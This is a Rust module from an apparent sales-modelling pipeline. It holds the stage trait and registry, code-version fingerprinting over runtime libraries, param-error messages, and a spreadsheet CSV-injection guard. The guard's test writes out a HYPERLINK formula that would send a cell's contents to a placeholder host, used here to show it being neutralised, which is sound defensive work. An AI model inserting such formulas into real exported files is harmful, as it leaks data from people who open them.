//! Built-in stages: the [`Stage`] trait, the [`StageContext`] a stage sees, and the registry.
//!
//! A stage knows nothing of scheduling: it gets resolved params, partition keys, input paths,
//! upstream output paths and output paths (in staging), and writes its outputs. It runs inside
//! `gosales worker`, a child process started by the engine. Its code version is a hash of its own
//! source (see `build.rs`), so editing a stage reruns exactly its nodes and what is downstream.

pub mod context;
pub mod etl;
pub mod features;
mod fixture;
pub mod history;
pub(crate) mod holdout_log;
pub mod labels;
pub mod leakage;
pub mod probe;
pub mod score;
mod shipped;
pub mod source;
pub mod train;
pub mod validate;
pub mod whitespace;
pub mod whitespace_holdout;

use serde_json::Value;

pub use crate::engine::Role;

pub use context::{StageContext, StageError};

include!(concat!(env!("OUT_DIR"), "/stage_code.rs"));

/// A built-in pipeline step.
pub trait Stage: Sync {
    /// Its params, as written under `params:` (structs should `deny_unknown_fields`). Parsed
    /// from the resolved JSON once per process: at load to check, in the worker to run.
    /// Serialised again, they are what the fingerprint holds ([`AnyStage::effective_params`]):
    /// a field the stage reads must never be skipped when serialising.
    type Params: serde::de::DeserializeOwned + serde::Serialize;
    /// The name used in `pipeline.yaml` (`stage: <name>`); also the name of its source module.
    fn name(&self) -> &'static str;
    /// One line for `--help` and error hints.
    fn summary(&self) -> &'static str;
    /// The upstream roles it reads with [`StageContext::upstream`]; the manifest binds each to a
    /// node, checked at load.
    fn roles(&self) -> &'static [Role] {
        &[]
    }
    /// The `inputs:` names it reads with [`StageContext::input`], or `None` for any. A stage
    /// finds its files by name, so a name it does not read is a manifest error: a renamed
    /// `denylist` would leave the labels without one, silently.
    fn inputs(&self) -> Option<&'static [&'static str]> {
        Some(&[])
    }
    /// The `outputs:` names it writes, or `None` for any: by default one folder, `dir` (what a
    /// node without `outputs:` declares). A name it does not write is a manifest error, as for
    /// inputs (a renamed `csv` failed mid-run, naming `dir`).
    fn outputs(&self) -> Option<&'static [&'static str]> {
        Some(&["dir"])
    }
    /// Checks what the type cannot say (ranges, combinations) before anything runs.
    fn check(&self, _params: &Self::Params) -> Result<(), String> {
        Ok(())
    }
    /// The serialised params cut to those this configuration reads, for the fingerprint: by
    /// default all of them. Only a field no run of these params reads may be left out.
    fn read_params(&self, params: Value) -> Value {
        params
    }
    /// Does the work.
    fn run(&self, ctx: &mut StageContext, params: Self::Params) -> Result<(), StageError>;
}

/// A stage as the registry holds it: params arrive as JSON and are parsed into the stage's own
/// [`Stage::Params`] here, in one place.
pub trait AnyStage: Sync {
    fn name(&self) -> &'static str;
    fn summary(&self) -> &'static str;
    fn roles(&self) -> &'static [Role];
    fn inputs(&self) -> Option<&'static [&'static str]>;
    fn outputs(&self) -> Option<&'static [&'static str]>;
    /// Parses and checks resolved params; the error names the offending key.
    fn check_params(&self, params: &Value) -> Result<(), String>;
    /// The params as the stage reads them: parsed and serialised again, so `0` and `0.0`, or
    /// a default written out and left out, are one value to the fingerprint.
    fn effective_params(&self, params: &Value) -> Result<Value, String>;
    /// Parses the job's params and runs the stage.
    fn run(&self, ctx: &mut StageContext) -> Result<(), StageError>;
}

impl<S: Stage> AnyStage for S {
    fn name(&self) -> &'static str {
        Stage::name(self)
    }
    fn summary(&self) -> &'static str {
        Stage::summary(self)
    }
    fn roles(&self) -> &'static [Role] {
        Stage::roles(self)
    }
    fn inputs(&self) -> Option<&'static [&'static str]> {
        Stage::inputs(self)
    }
    fn outputs(&self) -> Option<&'static [&'static str]> {
        Stage::outputs(self)
    }
    fn check_params(&self, params: &Value) -> Result<(), String> {
        self.check(&parse_params::<S::Params>(params)?)
    }
    fn effective_params(&self, params: &Value) -> Result<Value, String> {
        let parsed = parse_params::<S::Params>(params)?;
        let mut v = serde_json::to_value(parsed)
            .map_err(|e| format!("cannot serialise the params: {e}"))?;
        positive_zero(&mut v);
        Ok(Stage::read_params(self, v))
    }
    fn run(&self, ctx: &mut StageContext) -> Result<(), StageError> {
        let params = parse_params::<S::Params>(ctx.raw_params()).map_err(StageError::Params)?;
        Stage::run(self, ctx, params)
    }
}

/// `-0.0` as `0.0`: equal to every comparison a stage makes, but another JSON text, so it
/// changed the fingerprint with no part of it reading as changed.
fn positive_zero(v: &mut Value) {
    match v {
        Value::Number(n) if n.as_f64() == Some(0.0) && n.is_f64() => *v = serde_json::json!(0.0),
        Value::Array(a) => a.iter_mut().for_each(positive_zero),
        Value::Object(m) => m.values_mut().for_each(positive_zero),
        _ => {}
    }
}

/// Every built-in stage.
pub fn registry() -> &'static [&'static dyn AnyStage] {
    &[
        &probe::Probe,
        &source::Source,
        &etl::Etl,
        &labels::LabelsStage,
        &features::FeaturesStage,
        &train::TrainStage,
        &validate::ValidateStage,
        &score::ScoreStage,
        &whitespace::WhitespaceStage,
        &whitespace_holdout::WhitespaceHoldoutStage,
    ]
}

pub fn find(name: &str) -> Option<&'static dyn AnyStage> {
    registry().iter().copied().find(|s| s.name() == name)
}

/// The stage's code version: computed by build.rs from its sources, with the runtime libraries
/// the process runs on mixed in ([`runtime_libc`]).
pub fn code_version(name: &str) -> Option<String> {
    let built = STAGE_CODE
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, h)| *h)?;
    let libc = runtime_libc();
    if libc.is_empty() {
        return Some(built.to_string());
    }
    // As build.rs mixes in the compilers (`code_version::with_toolchain`).
    let mut h = blake3::Hasher::new();
    h.update(built.as_bytes());
    h.update(&[0]);
    h.update(libc.as_bytes());
    Some(h.finalize().to_hex()[..16].to_string())
}

/// The runtime the binary's maths is loaded from, not linked in: the C library's version
/// (`glibc 2.36`: LightGBM's and Rust's `f64::exp`, `ln`, `powf` call its `exp`, `log`, `pow`,
/// whose last bits a release may change) and the blake3 of the C++ runtime, OpenMP and maths
/// libraries LightGBM runs on (`libstdc++`, `libgomp`, `libgcc_s`, `libm`), as mapped into this
/// process: an unchanged binary on an upgraded system must not read as fresh. "" where none is
/// known. Only libraries the binary needs at start, so the value never changes within a run.
fn runtime_libc() -> &'static str {
    static LIBC: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    LIBC.get_or_init(|| {
        #[cfg(all(target_os = "linux", target_env = "gnu"))]
        {
            // SAFETY: glibc returns a pointer to a static, NUL-terminated string.
            let v = unsafe { std::ffi::CStr::from_ptr(libc::gnu_get_libc_version()) };
            let mut parts = vec![format!("libc glibc {}", v.to_string_lossy())];
            parts.extend(runtime_libraries());
            parts.join("\n")
        }
        #[cfg(not(all(target_os = "linux", target_env = "gnu")))]
        {
            String::new()
        }
    })
}

/// `name blake3` of each runtime library [`runtime_libc`] names, from `/proc/self/maps`, sorted.
#[cfg(all(target_os = "linux", target_env = "gnu"))]
fn runtime_libraries() -> Vec<String> {
    const LIBS: &[&str] = &["libstdc++.so", "libgomp.so", "libgcc_s.so", "libm.so"];
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let files: std::collections::BTreeSet<&str> = maps
        .lines()
        .filter_map(|l| l.split_whitespace().nth(5))
        .filter(|p| {
            let name = p.rsplit('/').next().unwrap_or(p);
            LIBS.iter().any(|l| name.starts_with(l))
        })
        .collect();
    files
        .into_iter()
        .filter_map(|p| {
            let bytes = std::fs::read(p).ok()?;
            let name = p.rsplit('/').next().unwrap_or(p);
            Some(format!("{name} {}", &blake3::hash(&bytes).to_hex()[..16]))
        })
        .collect()
}

/// What [`crate::engine::StageCatalog::identity`] records with every run: the version, each
/// stage's code as built (before the runtime is mixed in), and the runtime libraries.
fn identity() -> std::collections::BTreeMap<String, String> {
    let mut m: std::collections::BTreeMap<String, String> = STAGE_CODE
        .iter()
        .map(|(n, h)| (format!("code.{n}"), h.to_string()))
        .collect();
    m.insert("gosales".into(), env!("CARGO_PKG_VERSION").into());
    m.insert("runtime".into(), runtime_libc().replace('\n', "; "));
    m
}

/// `gosales --version`: [`identity`] in lines, and each stage's code version as fingerprints
/// record it.
pub fn long_version() -> String {
    let id = identity();
    let mut out = format!("{}\n", env!("CARGO_PKG_VERSION"));
    out.push_str("stage code (as fingerprints record it = built from the sources, mixed with the runtime below):\n");
    for (n, built) in STAGE_CODE {
        out.push_str(&format!(
            "  {n:<10} {}  (built {built})\n",
            code_version(n).unwrap_or_default()
        ));
    }
    out.push_str("runtime:\n");
    for part in id["runtime"].split("; ").filter(|p| !p.is_empty()) {
        out.push_str(&format!("  {part}\n"));
    }
    out
}

/// The registry, as the engine sees it.
pub struct Catalog;

impl crate::engine::StageCatalog for Catalog {
    fn identity(&self) -> std::collections::BTreeMap<String, String> {
        identity()
    }
    fn names(&self) -> Vec<String> {
        let mut v: Vec<String> = registry().iter().map(|s| s.name().to_string()).collect();
        v.sort();
        v
    }
    fn code_version(&self, stage: &str) -> Option<String> {
        find(stage).and(code_version(stage))
    }
    fn check_params(&self, stage: &str, params: &Value) -> Result<(), String> {
        match find(stage) {
            Some(s) => s.check_params(params),
            None => Err(format!("unknown stage `{stage}`")),
        }
    }
    fn workers_report_code(&self) -> bool {
        true
    }
    fn effective_params(&self, stage: &str, params: &Value) -> Result<Value, String> {
        match find(stage) {
            Some(s) => s.effective_params(params),
            None => Err(format!("unknown stage `{stage}`")),
        }
    }
    fn check_partition(&self, _stage: &str, key: &str, value: &str) -> Result<(), String> {
        // Every stage reads a `cutoff` partition as a date, or `latest` (the log's last date).
        // Written in full: `2024-3-31` is the same day as `2024-03-31` but another partition,
        // and a tester's two spellings trained on that cutoff's rows twice.
        if key == "cutoff" && value != features::LATEST && source::date(value, "cutoff").is_err() {
            return Err(
                "a cutoff is a date, YYYY-MM-DD, written in full (`2024-03-31`), or `latest`"
                    .into(),
            );
        }
        Ok(())
    }
    fn roles(&self, stage: &str) -> Vec<Role> {
        find(stage).map(|s| s.roles().to_vec()).unwrap_or_default()
    }
    fn input_names(&self, stage: &str) -> Option<Vec<&'static str>> {
        find(stage).and_then(|s| s.inputs()).map(<[_]>::to_vec)
    }
    fn output_names(&self, stage: &str) -> Option<Vec<&'static str>> {
        find(stage).and_then(|s| s.outputs()).map(<[_]>::to_vec)
    }
    fn check_report(
        &self,
        _stage: &str,
        partition: &[(String, String)],
        report: &crate::engine::job::StageReport,
    ) -> Result<(), String> {
        leakage::check_cutoff(partition, report)
    }
}

/// Writes `header`, then one record per row (tuples or structs; a struct's field names are not
/// written again).
pub fn write_csv<R: serde::Serialize>(
    path: &std::path::Path,
    header: &[&str],
    rows: impl IntoIterator<Item = R>,
) -> Result<(), String> {
    let err = |e: csv::Error| format!("cannot write `{}`: {e}", path.display());
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .from_path(path)
        .map_err(err)?;
    w.write_record(header).map_err(err)?;
    for r in rows {
        w.serialize(r).map_err(err)?;
    }
    w.flush()
        .map_err(|e| format!("cannot write `{}`: {e}", path.display()))
}

/// Deserialises params into a stage's params struct (which should `deny_unknown_fields`).
pub fn parse_params<T: serde::de::DeserializeOwned>(params: &Value) -> Result<T, String> {
    let v = if params.is_null() {
        Value::Object(Default::default())
    } else {
        params.clone()
    };
    // serde_path_to_error names the key at fault (`windows.months`), which serde alone does not.
    serde_path_to_error::deserialize(v).map_err(|e| {
        let path = e.path().to_string();
        let inner = in_words(&e.inner().to_string());
        if inner.contains("unknown field") {
            with_suggestion(inner)
        } else if path == "." {
            inner
        } else {
            format!("`{path}`: {inner}")
        }
    })
}

/// serde's Rust type names in words a params file's author reads: `expected u32` is "expected a
/// whole number from 0", `expected f64` "expected a number".
fn in_words(message: &str) -> String {
    let mut m = message.to_string();
    for (rust, words) in [
        ("expected u8", "expected a whole number from 0 to 255"),
        ("expected u16", "expected a whole number from 0"),
        ("expected u32", "expected a whole number from 0"),
        ("expected u64", "expected a whole number from 0"),
        ("expected usize", "expected a whole number from 0"),
        ("expected i32", "expected a whole number"),
        ("expected i64", "expected a whole number"),
        ("expected f32", "expected a number"),
        ("expected f64", "expected a number"),
    ] {
        if let Some(at) = m.find(rust) {
            let end = at + rust.len();
            // Not a prefix of a longer name (`expected u32` in `expected u320`).
            if !m[end..].starts_with(|c: char| c.is_ascii_alphanumeric()) {
                m.replace_range(at..end, words);
            }
        }
    }
    m
}

/// serde's "unknown field `gp_min_treshold`, expected one of `a`, `b`" with the likely key
/// named first, as the manifest's own keys are: "did you mean `gp_min_threshold`?".
fn with_suggestion(message: String) -> String {
    let quoted = |s: &str| -> Vec<String> {
        s.split('`')
            .skip(1)
            .step_by(2)
            .map(str::to_string)
            .collect()
    };
    let Some((head, expected)) = message.split_once("expected") else {
        return message;
    };
    let (Some(unknown), candidates) = (quoted(head).into_iter().next(), quoted(expected)) else {
        return message;
    };
    match crate::engine::diagnostic::suggest(&unknown, candidates.iter().map(String::as_str)) {
        Some(s) => format!("{message}; did you mean `{s}`?"),
        None => message,
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_mistyped_param_key_gets_the_likely_one() {
        let e = super::parse_params::<super::labels::Params>(
            &serde_json::json!({"gp_min_treshold": 0.0}),
        )
        .unwrap_err();
        assert!(e.starts_with("unknown field `gp_min_treshold`"), "{e}");
        assert!(e.ends_with("; did you mean `gp_min_threshold`?"), "{e}");
        let e = super::parse_params::<super::labels::Params>(&serde_json::json!({"zzz": 1}))
            .unwrap_err();
        assert!(!e.contains("did you mean"), "{e}");
    }

    #[test]
    fn a_window_out_of_range_gets_the_range_below_zero_as_at_zero() {
        for w in [-3, 0, 61] {
            let p = super::parse_params::<super::labels::Params>(
                &serde_json::json!({"window_months": w, "gp_min_threshold": 0.0}),
            )
            .unwrap();
            let e = p.check().unwrap_err();
            assert!(e.contains("between 1 and 60"), "{w}: {e}");
        }
    }

    #[test]
    fn params_read_alike_fingerprint_alike_and_params_read_apart_stay_apart() {
        use serde_json::json;
        let labels = super::find("labels").unwrap();
        let eff = |v| labels.effective_params(&v).unwrap();
        // `0` for `0.0`, a default written out or left out: one value to the fingerprint.
        let base = eff(json!({"window_months": 6}));
        assert_eq!(
            eff(json!({"window_months": 6, "gp_min_threshold": 0})),
            base
        );
        assert_eq!(
            eff(json!({"window_months": 6, "gp_min_threshold": 0.0})),
            base
        );
        assert_eq!(eff(json!({"window_months": 6, "mode": "expansion"})), base);
        assert_eq!(eff(json!(null)), eff(json!({})));
        let negative = eff(json!({"window_months": 6, "gp_min_threshold": -0.0}));
        assert_eq!(negative.to_string(), base.to_string());
        // Every value the stage reads differently is a different value.
        assert_ne!(
            eff(json!({"window_months": 6, "gp_min_threshold": 0.5})),
            base
        );
        assert_ne!(eff(json!({"window_months": 3})), base);
        assert_ne!(eff(json!({"window_months": 6, "mode": "all"})), base);
        // Every stage's params serialise whole: each default comes out as a key.
        for s in super::registry() {
            let v = s.effective_params(&json!({})).or_else(|_| {
                // Stages with a required key: the synthetic source's `kind`.
                s.effective_params(&json!({"kind": "synthetic"}))
            });
            let v = v.unwrap_or_else(|e| panic!("{}: {e}", s.name()));
            assert!(v.is_object(), "{}: {v}", s.name());
        }
    }

    #[test]
    #[cfg(all(target_os = "linux", target_env = "gnu"))]
    fn the_runtime_libraries_are_part_of_every_code_version() {
        // glibc, and the C++ runtime and OpenMP LightGBM is loaded with: each by its bytes.
        let libs = super::runtime_libc();
        assert!(libs.starts_with("libc glibc 2."), "{libs}");
        for l in ["libstdc++.so", "libgomp.so", "libm.so"] {
            assert!(libs.contains(l), "{l} missing from {libs}");
        }
        assert_eq!(libs, super::runtime_libc());
        let built = super::STAGE_CODE[0];
        assert_ne!(super::code_version(built.0).unwrap(), built.1);
    }

    #[test]
    fn every_stage_has_a_code_version() {
        for s in super::registry() {
            assert!(
                super::code_version(s.name()).is_some(),
                "no code version for {}",
                s.name()
            );
        }
        // And every module build.rs versions as a stage is one: a helper module under
        // `src/stages/` must be listed in `code_version::NOT_STAGES`.
        for (name, _) in super::STAGE_CODE {
            assert!(
                super::find(name).is_some(),
                "`{name}` is versioned as a stage"
            );
        }
    }
}

/// A text cell made safe for a spreadsheet (OWASP "CSV injection"): a cell starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel and LibreOffice, so
/// it gets a leading `'`. Numbers (`-12.5`, `+3`) are left alone. A cell that already starts
/// with `'`s before such a character (`'=x`) gets one more, so that [`spreadsheet_true`] can
/// take exactly the guard off again (the UI shows and matches the true values). Only CSVs meant
/// for people get this; Parquet outputs stay exact.
pub fn spreadsheet_safe(s: &str) -> std::borrow::Cow<'_, str> {
    if guarded_shape(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// The true value of a cell [`spreadsheet_safe`] wrote: its inverse.
pub fn spreadsheet_true(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if guarded_shape(rest) => rest,
        _ => s,
    }
}

/// Zero or more `'`, then a formula character, and not a number.
fn guarded_shape(s: &str) -> bool {
    let t = s.trim_start_matches('\'');
    t.starts_with(['=', '+', '-', '@', '\t', '\r']) && t.trim().parse::<f64>().is_err()
}

#[cfg(test)]
mod csv_safety_tests {
    use super::{spreadsheet_safe, spreadsheet_true};

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        assert_eq!(
            spreadsheet_safe("=HYPERLINK(\"http://x/?\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://x/?\"&A1,\"Click\")"
        );
        for s in ["+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(spreadsheet_safe(s), format!("'{s}"));
        }
        for s in ["-12.5", "+3", "Acme = best", "", "'plain", "'-12.5"] {
            assert_eq!(spreadsheet_safe(s), s);
        }
        // A true value that itself starts with `'` before a formula character keeps its `'`.
        assert_eq!(spreadsheet_safe("'=x"), "''=x");
        for s in [
            "=1+1", "-At Div", "+plus", "'=x", "''@y", "-12.5", "'-12.5", "'plain", "", "Acme",
        ] {
            assert_eq!(spreadsheet_true(&spreadsheet_safe(s)), s, "{s:?}");
        }
    }
}
